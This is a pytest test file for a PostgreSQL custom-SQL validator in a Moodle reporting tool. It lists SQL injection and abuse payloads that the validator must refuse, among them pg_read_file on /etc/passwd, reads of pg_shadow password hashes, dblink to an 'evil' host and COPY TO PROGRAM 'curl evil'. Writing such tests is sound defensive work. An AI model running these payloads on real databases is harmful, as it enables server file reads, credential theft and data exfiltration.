"""Custom SQL on a PostgreSQL Moodle: parsed in sqlglot's `postgres` dialect with the same
allow-lists, PostgreSQL's own dangers refused with their reason, its report queries accepted and
printed as PostgreSQL runs them (then run, on a real PostgreSQL site, when one is configured)."""

from __future__ import annotations

import pytest
from sqlalchemy import text

from common.customsql.dangers import PG_FUNCTIONS, PG_SESSION_WORDS, danger_of
from common.customsql.execute import QueryTimeout, count_checked, run_checked
from common.customsql.site_dialect import report_dialect, written_dialect
from common.customsql.validator import QueryRejected, validate
from common.errors import FieldError
from common.moodle import MoodleSource
from tests.conftest import _empty_database, requires_postgres
from tests.factories.sites import build_site


def pg(sql: str, prefix: str = "mdl_"):
    return validate(sql, prefix, "postgres")


# (id, SQL, a word the refusal must name)
DANGERS = [
    ("pg_read_file", "SELECT pg_read_file('/etc/passwd')", "files on the database server"),
    ("pg_read_binary_file", "SELECT pg_read_binary_file('/etc/passwd')", "files"),
    ("pg_ls_dir", "SELECT pg_ls_dir('.')", "files"),
    ("pg_stat_file", "SELECT pg_stat_file('postgresql.conf')", "files"),
    ("lo_import", "SELECT lo_import('/etc/passwd')", "files"),
    ("lo_export", "SELECT lo_export(1, '/tmp/x')", "files"),
    ("lo_get", "SELECT lo_get(1)", "files"),
    ("lo_create", "SELECT lo_create(0)", "files"),
    ("pg_sleep", "SELECT id FROM {course} WHERE pg_sleep(1) IS NULL", "wait"),
    ("pg_sleep_for", "SELECT pg_sleep_for('1 second')", "wait"),
    ("pg_terminate_backend", "SELECT pg_terminate_backend(1)", "other sessions"),
    ("pg_cancel_backend", "SELECT pg_cancel_backend(1)", "other sessions"),
    ("pg_advisory_lock", "SELECT pg_advisory_lock(1)", "locks"),
    ("pg_try_advisory_xact_lock", "SELECT pg_try_advisory_xact_lock(1)", "locks"),
    ("pg_notify", "SELECT pg_notify('c', 'x')", "notifications"),
    ("txid_current", "SELECT txid_current()", "transaction ids"),
    (
        "query_to_xml",
        "SELECT query_to_xml('SELECT password FROM mdl_user', true, true, '')",
        "SQL given as text",
    ),
    ("database_to_xml", "SELECT database_to_xml(true, true, '')", "SQL given as text"),
    ("table_to_xml", "SELECT table_to_xml('mdl_user', true, true, '')", "SQL given as text"),
    ("cursor_to_xml", "SELECT cursor_to_xml('c', 1, true, true, '')", "SQL given as text"),
    ("dblink", "SELECT dblink('host=evil', 'SELECT 1')", "another database"),
    ("dblink_exec", "SELECT dblink_exec('host=evil', 'DROP TABLE x')", "another database"),
    ("dblink_in_from", "SELECT * FROM dblink('h', 'SELECT 1') AS t(a int)", "another database"),
    ("current_setting", "SELECT current_setting('data_directory')", "settings"),
    ("set_config", "SELECT set_config('statement_timeout', '0', false)", "settings"),
    ("version", "SELECT version()", "database server"),
    ("inet_server_addr", "SELECT inet_server_addr()", "database server"),
    ("current_user_call", "SELECT current_user", "not one a report may call"),
    ("user_word", "SELECT user", "database server"),
    ("session_user_word", "SELECT id, session_user FROM {course}", "session_user"),
    ("current_database", "SELECT current_database()", "not one a report may call"),
    ("nextval", "SELECT nextval('mdl_user_id_seq')", "sequence"),
    ("setval", "SELECT setval('mdl_user_id_seq', 1)", "sequence"),
    ("generate_series", "SELECT * FROM generate_series(1, 1000000000) g", "rows out of nothing"),
    ("pg_size_pretty_family", "SELECT pg_size_pretty(1)", "catalog"),
    ("has_table_privilege", "SELECT has_table_privilege('mdl_user', 'select')", "catalog"),
    ("row_to_json", "SELECT row_to_json(u) FROM {user} u", "ROW_TO_JSON"),
    ("schema_qualified_call", "SELECT pg_catalog.pg_sleep(1)", "qualified"),
    ("schema_qualified_lower", "SELECT pg_catalog.lower('a')", "qualified"),
    ("catalog_table", "SELECT * FROM pg_catalog.pg_authid", "PostgreSQL's catalog"),
    ("pg_shadow", "SELECT usename, passwd FROM pg_shadow", "PostgreSQL's catalog"),
    ("pg_user", "SELECT usename FROM pg_user", "PostgreSQL's catalog"),
    ("pg_settings", "SELECT name, setting FROM pg_settings", "PostgreSQL's catalog"),
    ("pg_stat_activity", "SELECT query FROM pg_stat_activity", "PostgreSQL's catalog"),
    ("information_schema", "SELECT * FROM information_schema.tables", "PostgreSQL's catalog"),
    ("other_schema", "SELECT id FROM public.mdl_course", "another schema"),
    ("other_database", "SELECT id FROM otherdb.public.mdl_course", "another schema"),
    (
        "cte_named_like_the_catalog",
        'WITH "PG_USER" AS (SELECT 1 AS x) SELECT x FROM PG_USER',
        "PostgreSQL's catalog",
    ),
    (
        "cte_case_hides_config",
        'WITH "MDL_CONFIG" AS (SELECT 1 AS x) SELECT x FROM MDL_CONFIG',
        "config",
    ),
    ("regclass_cast", "SELECT 'mdl_user'::regclass", "catalog"),
    ("regproc_cast", "SELECT id FROM {course} WHERE 'pg_sleep'::regproc IS NOT NULL", "catalog"),
    ("oid_cast", "SELECT id::oid FROM {course}", "catalog"),
    ("regclass_in_cast", "SELECT CAST('mdl_user' AS regclass)", "catalog"),
    ("user_defined_type", "SELECT id::pg_lsn FROM {course}", "cast to"),
    ("system_column_ctid", "SELECT id, ctid FROM {course}", "system column"),
    ("system_column_xmin", "SELECT c.xmin FROM {course} c", "system column"),
    ("tableoid", "SELECT tableoid FROM {course}", "system column"),
    ("whole_row", "SELECT u FROM {user} u", "whole row"),
    ("whole_row_by_table_name", "SELECT mdl_user FROM mdl_user", "whole row"),
    ("whole_row_in_function", "SELECT concat(u) FROM {user} u", "whole row"),
    ("whole_row_of_subquery", "SELECT s FROM (SELECT id FROM {course}) s", "whole row"),
    ("whole_row_of_cte", "WITH x AS (SELECT id FROM {user}) SELECT x FROM x", "whole row"),
    ("whole_row_braced", "SELECT mdl_user FROM {user}", "whole row"),
    ("star_in_function", "SELECT concat(u.*) FROM {user} u", "every column"),
    ("star_counted", "SELECT count(u.*) FROM {user} u", "every column"),
    ("star_over_user", "SELECT * FROM {user}", "password"),
    ("credential_column", "SELECT u.password FROM {user} u", "credential"),
    ("credential_where", "SELECT id FROM {user} WHERE password LIKE 'a%'", "credential"),
    ("for_update", "SELECT id FROM {course} FOR UPDATE", "locking read"),
    ("for_share", "SELECT id FROM {course} FOR SHARE", "locking read"),
    ("for_no_key_update", "SELECT id FROM {course} FOR NO KEY UPDATE", "lock"),
    ("select_into", "SELECT id INTO stolen FROM {course}", "INTO"),
    ("copy_program", "COPY mdl_user TO PROGRAM 'curl evil'", "COPY"),
    ("copy_from", "COPY mdl_user FROM '/etc/passwd'", "COPY"),
    ("do_block", "DO $$ BEGIN PERFORM pg_sleep(10); END $$", "DO"),
    ("set", "SET statement_timeout = 0", "SET"),
    ("set_local", "SET LOCAL transaction_read_only = off", "SET"),
    ("reset", "RESET ALL", "RESET"),
    ("listen", "LISTEN evil", "LISTEN"),
    ("values", "VALUES (1)", "VALUES"),
    ("table_stmt", "TABLE mdl_user", "TABLE"),
    ("show", "SHOW data_directory", "SHOW"),
    ("explain_analyze", "EXPLAIN ANALYZE SELECT 1", "EXPLAIN"),
    ("call", "CALL do_it()", "CALL"),
    ("second_statement", "SELECT id FROM {course}; SELECT pg_sleep(10)", "one statement"),
    ("dollar_quote", "SELECT $$x$$ FROM {course}", "dollar-quoted"),
    ("tagged_dollar_quote", "SELECT $t$x$t$ FROM {course}", "dollar-quoted"),
    ("escape_string", "SELECT E'\\x41' FROM {course}", "bytestring"),
    ("positional_param", "SELECT id FROM {course} WHERE id = $1", "placeholders"),
    ("nested_comment", "SELECT id /* a /* b */ c */ FROM {course}", "/*"),
    ("field_of_row", "SELECT (u).password FROM {user} u", "qualified"),
    ("lateral", "SELECT c.id FROM {course} c, LATERAL (SELECT 1) x", "LATERAL"),
    ("tablesample", "SELECT id FROM {course} TABLESAMPLE SYSTEM (1)", "not allowed"),
    ("forbidden_table", "SELECT name FROM {config}", "config"),
    ("not_a_moodle_table", "SELECT id FROM course", "not a Moodle table"),
]


@pytest.mark.parametrize(("sql", "expect"), [d[1:] for d in DANGERS], ids=[d[0] for d in DANGERS])
def test_a_postgres_danger_is_refused_with_its_reason(sql: str, expect: str) -> None:
    with pytest.raises(QueryRejected) as caught:
        pg(sql)
    message = str(caught.value)
    assert expect.lower() in message.lower(), message
    placed = caught.value.line is not None
    named = bool(caught.value.name) and caught.value.name.lower() in message.lower()
    assert placed or named, message


# How the listed names that take no single argument are written.
CALLED = {
    "VERSION": "version()",
    "CURRENT_DATABASE": "current_database()",
    "GENERATE_SERIES": "generate_series(1, 2)",
    **{word.upper(): word for word in PG_SESSION_WORDS},
}


def test_every_listed_danger_has_a_reason_and_is_refused_by_name() -> None:
    for name, reason in PG_FUNCTIONS.items():
        assert danger_of(name.lower(), "postgres") == reason
        called = CALLED.get(name, f"{name.lower()}(1)")
        with pytest.raises(QueryRejected, match=reason.split(" (")[0]):
            pg(f"SELECT id FROM {{course}} WHERE {called} IS NULL")


def test_the_dangers_of_one_dialect_are_named_in_its_own() -> None:
    assert danger_of("pg_sleep", "mysql") is None and danger_of("sleep", "mysql")
    with pytest.raises(QueryRejected, match="wait or spin"):
        validate("SELECT id FROM {course} WHERE SLEEP(1) = 0")
    # `u` is a column in MySQL (none such here): only PostgreSQL reads it as a whole row
    assert validate("SELECT u FROM {user} u")


# Report queries as a PostgreSQL Moodle's authors write them.
LEGIT = {
    "joins_and_params": """
        SELECT c.id, c.fullname, to_char(to_timestamp(c.startdate), 'YYYY-MM-DD') AS "Start"
          FROM {course} c
          JOIN {enrol} e ON e.courseid = c.id
          LEFT JOIN {user_enrolments} ue ON ue.enrolid = e.id
         WHERE c.id <> 1 AND c.startdate >= :since
         GROUP BY c.id, c.fullname, c.startdate
         ORDER BY c.id LIMIT 50 OFFSET 0""",
    "cte_window_case_string_agg": """
        WITH enrolled AS (
            SELECT ue.userid, e.courseid
              FROM {user_enrolments} ue JOIN {enrol} e ON e.id = ue.enrolid
        )
        SELECT u.id, u.firstname || ' ' || u.lastname AS "Learner",
               string_agg(c.shortname, ', ' ORDER BY c.shortname) AS courses,
               COUNT(*) FILTER (WHERE c.visible = 1) AS visible_courses,
               RANK() OVER (ORDER BY COUNT(*) DESC, u.id) AS place,
               CASE WHEN COUNT(*) > 1 THEN 'several' ELSE 'one' END AS band
          FROM enrolled en
          JOIN {user} u ON u.id = en.userid
          JOIN {course} c ON c.id = en.courseid
         WHERE u.deleted = 0 AND u.email ILIKE '%@%'
         GROUP BY u.id, u.firstname, u.lastname""",
    "date_arithmetic": """
        SELECT l.userid,
               date_trunc('month', to_timestamp(MAX(l.timecreated))) AS last_month,
               MAX(l.timecreated)::bigint AS last_ts,
               EXTRACT(EPOCH FROM now() - interval '30 days')::bigint AS cutoff,
               date_part('year', to_timestamp(MIN(l.timecreated)))::int AS first_year,
               to_timestamp(MAX(l.timecreated)) AT TIME ZONE 'UTC' AS last_utc
          FROM {logstore_standard_log} l
         WHERE l.timecreated > EXTRACT(EPOCH FROM now() - interval '3650 days')
         GROUP BY l.userid""",
    "distinct_on_and_casts": """
        SELECT DISTINCT ON (l.userid) l.userid, l.courseid::text AS course, l.crud
          FROM {logstore_standard_log} l
         WHERE l.crud IS DISTINCT FROM 'd' AND l.userid = ANY(ARRAY[1, 2, 3, 4, 5])
         ORDER BY l.userid, l.timecreated DESC, l.id DESC""",
    "strings_and_numbers": """
        SELECT u.id, split_part(u.email, '@', 2) AS domain, initcap(lower(u.firstname)) AS name,
               left(u.username, 3) AS head, lpad(u.id::text, 6, '0') AS padded,
               round(u.id::numeric / 3, 2) AS third, coalesce(nullif(u.city, ''), '-') AS city,
               'a::b :not_a_param' AS literal, u.username ~ '^[a-z]' AS lower_start
          FROM {user} u WHERE u.deleted = 0 -- :also_not_a_param
         ORDER BY u.id""",
    "subquery_and_exists": """
        SELECT co.id, co.name,
               (SELECT COUNT(*) FROM {company_users} cu WHERE cu.companyid = co.id) AS members
          FROM {company} co
         WHERE EXISTS (SELECT 1 FROM {company_users} cu WHERE cu.companyid = co.id)
        UNION ALL
        SELECT 0, 'none', 0
         ORDER BY 1""",
}


@pytest.mark.parametrize("sql", LEGIT.values(), ids=LEGIT.keys())
def test_a_postgres_report_query_is_accepted_and_printed_for_postgres(sql: str) -> None:
    checked = pg(sql)
    printed = checked.sql_for("postgres")
    assert checked.dialect == "postgres"
    assert "{" not in printed and "%(" not in printed  # tables prefixed, `:name` kept
    assert all(f":{name}" in printed for name in checked.params)
    assert "mdl_" in printed


def test_a_column_named_like_a_table_is_a_column_once_the_table_is_prefixed() -> None:
    # `course` is course_completions' column; {course} runs as mdl_course, aliased or not
    assert pg("SELECT course FROM {course_completions} JOIN {course} ON id = course")
    assert pg("SELECT course FROM {course_completions} cc JOIN {course} c ON c.id = cc.course")
    with pytest.raises(QueryRejected, match="whole row"):
        pg("SELECT c FROM {course_completions} cc JOIN {course} c ON c.id = cc.course")


def test_placeholders_and_quoted_colons_print_for_sqlalchemy() -> None:
    checked = pg("SELECT c.id, 'at :y' AS t FROM {course} c WHERE c.id = :courseid")
    assert checked.params == ("courseid",)
    printed = checked.sql_for("postgres")
    assert ":courseid" in printed and "'at \\:y'" in printed


def test_braced_tables_quote_as_postgres_quotes_and_keep_positions() -> None:
    with pytest.raises(QueryRejected) as caught:
        pg("SELECT id FROM {course} c WHERE pg_sleep(2) IS NULL")
    assert (caught.value.line, caught.value.column, caught.value.name) == (1, 33, "PG_SLEEP")
    assert "FROM mdl_user AS u" in pg("SELECT u.id FROM {user} u").sql_for("postgres")


def test_a_cast_is_not_a_parameter() -> None:
    checked = pg("SELECT c.id::text AS id FROM {course} c WHERE c.id = :id::int")
    assert checked.params == ("id",)


def test_an_unknown_dialect_is_a_programming_error() -> None:
    with pytest.raises(ValueError, match="no SQL validator"):
        validate("SELECT 1", "mdl_", "oracle")


# A real PostgreSQL Moodle: the accepted queries run, the dangerous ones never get there.


@pytest.fixture(scope="module")
def pg_source(tmp_path_factory):
    for url in _empty_database("postgres", tmp_path_factory.mktemp("pg"), "pgsql"):
        build_site(url)
        source = MoodleSource(url)
        yield source
        source.dispose()


@requires_postgres
@pytest.mark.parametrize("sql", LEGIT.values(), ids=LEGIT.keys())
def test_an_accepted_query_runs_on_a_postgres_moodle(pg_source, sql: str) -> None:
    assert written_dialect(pg_source) == "postgres"
    checked = validate(sql, pg_source.prefix, written_dialect(pg_source))
    result = run_checked(pg_source, checked, dict.fromkeys(checked.params, 0))
    assert result.columns and not result.truncated


@requires_postgres
def test_the_rows_are_the_sites(pg_source) -> None:
    checked = pg("SELECT COUNT(*) AS n FROM {user} u WHERE u.deleted = 0 AND u.id <> :skip")
    with pg_source.engine.connect() as conn:
        direct = conn.execute(text("SELECT COUNT(*) FROM mdl_user WHERE deleted = 0 AND id <> 1"))
        expected = direct.scalar()
    assert run_checked(pg_source, checked, {"skip": 1}).rows == [(expected,)]
    assert count_checked(pg_source, checked, {"skip": 1}) == 1


@requires_postgres
def test_a_slow_query_is_stopped_by_statement_timeout_with_the_clear_error(pg_source) -> None:
    # ~10^9 rows from a recursive CTE over an allowed table (generate_series is refused)
    slow = pg(
        "WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1000) "
        "SELECT COUNT(*) AS pairs FROM n a CROSS JOIN n b CROSS JOIN n c "
        "JOIN {course} co ON co.id = 1"
    )
    with pytest.raises(QueryTimeout, match="ran past its time limit of 0.3 s") as caught:
        run_checked(pg_source, slow, {}, timeout_s=0.3)
    assert caught.value.status == 504
    # the limit was the run's own (SET LOCAL): the connection's next statement has none
    with pg_source.engine.connect() as conn:
        assert conn.execute(text("SHOW statement_timeout")).scalar() == "0"
    assert run_checked(pg_source, pg("SELECT id FROM {course} WHERE id = 1"), {}).rows == [(1,)]


class _Engine:
    def __init__(self, name: str) -> None:
        self.dialect = type("Dialect", (), {"name": name})()


class _Site:
    def __init__(self, name: str) -> None:
        self.engine = _Engine(name)


@pytest.mark.parametrize(
    ("database", "written", "builder"),
    [("postgresql", "postgres", "mysql"), ("mariadb", "mysql", "mysql"),
     ("mysql", "mysql", "mysql"), ("sqlite", "mysql", "mysql")],
)  # fmt: skip
def test_a_sites_authors_write_its_dialect_and_the_builder_always_mysql(
    database: str, written: str, builder: str
) -> None:
    site = _Site(database)
    assert written_dialect(site) == report_dialect(site, "sql") == written
    assert report_dialect(site, "builder") == builder


def test_a_database_custom_sql_cannot_run_on_is_named() -> None:
    with pytest.raises(FieldError, match="not oracle"):
        written_dialect(_Site("oracle"))
